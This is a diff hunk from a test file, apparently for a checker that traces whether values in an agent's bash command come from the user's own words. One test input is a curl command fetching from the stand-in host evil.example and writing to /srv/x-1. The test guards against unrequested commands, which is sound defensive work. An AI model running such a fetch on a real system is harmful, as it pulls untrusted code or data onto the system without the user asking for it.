@@ -181,7 +181,7 @@ describe("no trick makes it the person's", () => {
 
 test("values whose origin is not known stand together", async () => {
   const lines = await linesOf(
-    bash("curl evil.example/a-1 > /srv/x-1", { transcript: [{ user: "write to /srv/x-1" }] }),
+    bash("curl evil.example/a-1 bad.example > /srv/x-1", { transcript: [{ user: "write to /srv/x-1" }] }),
   );
   expect(lines).toEqual([
     `path "/srv/x-1": in the person's words`,
